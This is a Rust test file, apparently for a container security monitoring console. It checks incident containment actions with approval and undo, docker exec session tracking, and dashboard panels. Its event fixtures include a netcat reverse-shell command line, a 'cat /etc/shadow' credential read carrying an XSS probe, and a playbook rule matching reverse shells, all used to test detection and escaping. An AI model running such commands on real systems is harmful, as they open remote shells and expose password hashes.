) -> Vec<crowsnest_respond::contain::responder::Tracked> {
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let actions = crowsnest_server::api::list_actions(state, None, 100)
            .await
            .expect("actions");
        if check(&actions) {
            return actions;
        }
        assert!(std::time::Instant::now() < deadline, "{actions:#?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_incident_shows_its_containment_actions_with_approve_and_undo_for_admins() {
    use crowsnest_model::command::ContainerOp;
    use crowsnest_respond::contain::responder::{State, Tracked};
    use crowsnest_respond::contain::ActionKind;
    let f = fixture_with(|config| {
        config.respond = serde_json::from_value(serde_json::json!({
            "agent_timeout_secs": 2,
            "guards": {"breaker_max_auto": 10},
            "playbooks": [{"name": "shell", "rules": ["*reverse shell*"], "actions": [
                {"action": "pause", "mode": "auto"}, {"action": "quarantine", "mode": "approve"}]}]
        }))
        .expect("respond config");
    })
    .await;
    let state = f.running.state.clone();
    let (seen, agent) = fake_agent(&state);
    // A reverse shell started by `docker exec` in container `web` on node n1.
    let event = serde_json::json!({
        "@timestamp": chrono::Utc::now().to_rfc3339(),
        "event": {"kind": "event", "module": "docker", "dataset": "docker.events",
                  "category": ["process"], "type": ["start"], "action": "exec_start"},
        "host": {"name": "n1"},
        "container": {"id": "web0123456789abcdef", "name": "web", "image": {"name": "shop"}},
        "process": {"command_line": "sh -c nc 203.0.113.5 4444 -e /bin/sh"},
    });
    let response = crowsnest_server::app(state.clone())
        .oneshot(
            Request::post("/api/v1/ingest/ndjson")
                .header(header::AUTHORIZATION, format!("Bearer {}", f.admin))
                .header(header::CONTENT_TYPE, "application/x-ndjson")
                .body(Body::from(event.to_string()))
                .expect("request"),
        )
        .await
        .expect("ingest");
    assert_eq!(response.status(), StatusCode::OK);
    let find = |actions: &[Tracked], kind: ActionKind| -> Option<Tracked> {
        actions.iter().find(|t| t.action.action == kind).cloned()
    };
    let actions = actions_when(&state, |a| {
        find(a, ActionKind::Pause).is_some_and(|t| t.state == State::Executed)
            && find(a, ActionKind::Quarantine).is_some_and(|t| t.state == State::Pending)
    })
    .await;
    let pause = find(&actions, ActionKind::Pause).expect("pause");
    let quarantine = find(&actions, ActionKind::Quarantine).expect("quarantine");
    let incident = pause
        .action
        .incident_id
        .clone()
        .expect("planned for an incident");
    let page = format!(
        "/incidents/{}",
        percent_encoding::utf8_percent_encode(&incident, percent_encoding::NON_ALPHANUMERIC)
    );
    let respond = format!("{page}/respond");

    // A read-only token sees the actions, no buttons, and may not post.
    let (reader_cookie, reader_csrf) = login(&f.console, &f.reader).await;
    let shown = send(&f.console, get(&page, &reader_cookie)).await;
    assert_eq!(shown.status, StatusCode::OK);
    assert!(shown.body.contains("Containment actions"), "{}", shown.body);
    assert!(shown.body.contains(&quarantine.action.id) && shown.body.contains(&pause.action.id));
    assert!(shown.body.contains(">pending<") && shown.body.contains(">executed<"));
    assert!(
        !shown.body.contains(">Approve</button>") && !shown.body.contains(">Undo</button>"),
        "{}",
        shown.body
    );
    let answer = send(
        &f.console,
        post(
            &respond,
            &reader_cookie,
            &[
                ("csrf", &reader_csrf),
                ("action_id", &quarantine.action.id),
                ("decision", "approve"),
            ],
        ),
    )
    .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);

    // An admin sees Approve on the waiting one and Undo on the executed one.
    let (cookie, csrf) = login(&f.console, &f.admin).await;
    let shown = send(&f.console, get(&page, &cookie)).await;
    assert!(shown.body.contains(">Approve</button>") && shown.body.contains(">Undo</button>"));
    assert!(shown.body.contains(">Reject</button>"));
    // Without the CSRF token, and for an action that is not the incident's: refused.
    let answer = send(
        &f.console,
        post(
            &respond,
            &cookie,
            &[
                ("action_id", &quarantine.action.id),
                ("decision", "approve"),
            ],
        ),
    )
    .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    let answer = send(
        &f.console,
        post(
            &respond,
            &cookie,
            &[
                ("csrf", &csrf),
                ("action_id", "act-other"),
                ("decision", "approve"),
            ],
        ),
    )
    .await;
    assert_eq!(answer.status, StatusCode::NOT_FOUND, "{}", answer.body);
    // Approving runs it through the agent; approving again is refused by the responder.
    let approve = [
        ("csrf", csrf.as_str()),
        ("action_id", quarantine.action.id.as_str()),
        ("decision", "approve"),
    ];
    let answer = send(&f.console, post(&respond, &cookie, &approve)).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    assert_eq!(
        answer
            .headers
            .get(header::LOCATION)
            .and_then(|v| v.to_str().ok()),
        Some(format!("{page}#containment").as_str())
    );
    let actions = actions_when(&state, |a| {
        find(a, ActionKind::Quarantine).is_some_and(|t| t.state == State::Executed)
    })
    .await;
    let approved = find(&actions, ActionKind::Quarantine).expect("quarantine");
    assert!(approved.approved_by.is_some());
    assert_eq!(
        seen.lock().expect("lock").last().map(|c| c.op),
        Some(ContainerOp::Quarantine)
    );
    let again = send(&f.console, post(&respond, &cookie, &approve)).await;
    assert_eq!(again.status, StatusCode::BAD_REQUEST, "{}", again.body);
    assert!(again.body.contains("Containment action refused"));
    // Undo of the pause: unpaused through the agent, shown as undone, no more buttons on it.
    let answer = send(
        &f.console,
        post(
            &respond,
            &cookie,
            &[
                ("csrf", &csrf),
                ("action_id", &pause.action.id),
                ("decision", "undo"),
            ],
        ),
    )
    .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    actions_when(&state, |a| {
        find(a, ActionKind::Pause).is_some_and(|t| t.state == State::Undone)
    })
    .await;
    assert_eq!(
        seen.lock().expect("lock").last().map(|c| c.op),
        Some(ContainerOp::Unpause)
    );
    let shown = send(&f.console, get(&page, &cookie)).await;
    assert!(shown.body.contains(">undone<") && !shown.body.contains(">Approve</button>"));
    agent.abort();
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn a_docker_exec_session_joins_the_container_processes_until_the_exec_ends() {
    let f = fixture().await;
    let base = chrono::Utc::now() - chrono::Duration::minutes(10);
    let at = |secs: i64| {
        (base + chrono::Duration::seconds(secs))
            .to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
    };
    // As the agent's Docker events input writes them.
    let engine = |secs: i64, action: &str, exec_id: &str, command: &str| {
        serde_json::json!({
            "@timestamp": at(secs),
            "event": {"kind": "event", "module": "docker", "dataset": "docker.events", "action": action,
                      "category": ["process"], "type": [if action == "exec_die" { "end" } else { "start" }]},
            "host": {"name": "n1"},
            "container": {"id": "c0ffee0123456789", "name": "web", "image": {"name": "shop"}},
            "process": {"command_line": command},
            "docker": {"attributes": {"execID": exec_id, "exitCode": "0"}, "container": {"user": "app"}},
        })
    };
    let process = |secs: i64, command: &str| {
        serde_json::json!({
            "@timestamp": at(secs), "event": {"dataset": "auditd", "category": ["process"]},
            "host": {"name": "n1"}, "container": {"id": "c0ffee0123456789"},
            "process": {"command_line": command, "pid": 40 + secs, "user": {"name": "root"}, "parent": {"name": "sh"}},
        })
    };
    let client = serde_json::json!({
        "@timestamp": at(-1), "event": {"dataset": "auditd", "category": ["process"]},
        "host": {"name": "n1"}, "user": {"name": "bob", "id": "1000"},
        "process": {"name": "docker", "args": ["docker", "exec", "-it", "web", "sh"], "command_line": "docker exec -it web sh"},
    });
    let events = [
        client,
        engine(0, "exec_start", "e1", "sh"),
        process(1, "id"),
        process(2, "cat /etc/shadow <svg onload=alert(1)>"),
        engine(5, "exec_die", "e1", "sh"),
        process(6, "after-exit"),
        engine(10, "exec_start", "e2", "ls /"),
    ];
    let lines: String = events.iter().map(|e| format!("{e}\n")).collect();
    ingest(&f.running.state, &f.admin, lines).await;
    let (cookie, _) = login(&f.console, &f.reader).await;
    let list = send(&f.console, get("/exec?range=1h", &cookie)).await;
    assert!(
        list.body.contains("2 of 2 execs into containers"),
        "{}",
        list.body
    );
    let session_url = crate::render::link(
        "/exec/docker",
        &[("container", "c0ffee0123456789"), ("at", &at(0))],
    );
    assert!(
        list.body.contains(&session_url.replace('&', "&amp;")),
        "{}",
        list.body
    );
    let page = send(&f.console, get(&session_url, &cookie)).await;
    assert_eq!(page.status, StatusCode::OK);
    let body = &page.body;
    assert!(body.contains("docker exec into <code>web</code>"), "{body}");
    assert!(
        body.contains("bob (uid 1000)") && body.contains("docker exec -it web sh"),
        "the host's docker client is the who: {body}"
    );
    assert!(body.contains("2 of 2 process executions"), "{body}");
    let (id, shadow) = (
        body.find("<td>id</td>").expect("id ran"),
        body.find("cat /etc/shadow").expect("cat ran"),
    );
    assert!(id < shadow, "oldest first");
    assert!(!body.contains("after-exit"), "after the exec ended");
    assert!(body.contains("the exec ended (exit code 0)"), "{body}");
    assert!(!body.contains("<svg"), "escaped");
    // The second exec: no end seen, followed for 30 minutes.
    let second = crate::render::link(
        "/exec/docker",
        &[("container", "c0ffee0123456789"), ("at", &at(10))],
    );
    let page = send(&f.console, get(&second, &cookie)).await;
    assert!(
        page.body.contains("the exec's end was not seen")
            && page.body.contains("<code>ls /</code>"),
        "{}",
        page.body
    );
    assert!(
        !page.body.contains("after-exit"),
        "before this exec: {}",
        page.body
    );
    let none = send(
        &f.console,
        get(
            "/exec/docker?container=nope&at=2026-01-01T00:00:00Z",
            &cookie,
        ),
    )
    .await;
    assert!(none.body.contains("no docker exec into this container"));
    f.running.shutdown().await.expect("shutdown");
}

#[tokio::test]
async fn the_overview_shows_rejects_per_input_and_silent_sources() {
    let f = fixture().await;
    // A source that stopped an hour ago, and two lines the NDJSON decoder refuses.
    let old = (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339();
    let lines = format!(
        "{}\nnot json\n{{\"broken\": \n",
        serde_json::json!({"@timestamp": old, "event": {"dataset": "legacy.app"}, "message": "last words"})
    );
    ingest(&f.running.state, &f.admin, lines).await;
    let state = f.running.state.clone();
    let rejected = state.metrics.rejected_by_source();
    assert_eq!(
        rejected.iter().map(|(_, n)| n).sum::<u64>(),
        2,
        "{rejected:?}"
    );
    let (cookie, _) = login(&f.console, &f.reader).await;
    let page = send(&f.console, get("/dashboard", &cookie)).await;
    assert_eq!(page.status, StatusCode::OK);
    let body = &page.body;
    let rejects = body
        .find("Rejected lines per input")
        .expect("rejects panel");
    let row = format!(
        "<td><code>{}</code></td><td class=\"num\">2</td>",
        rejected[0].0
    );
    assert!(body[rejects..].contains(&row), "{body}");
    let silent = body.find("Silent sources").expect("silent panel");
    assert!(body[silent..].contains("legacy.app"), "{body}");
    assert!(body[silent..].contains("60 min"), "{body}");
    f.running.shutdown().await.expect("shutdown");
}
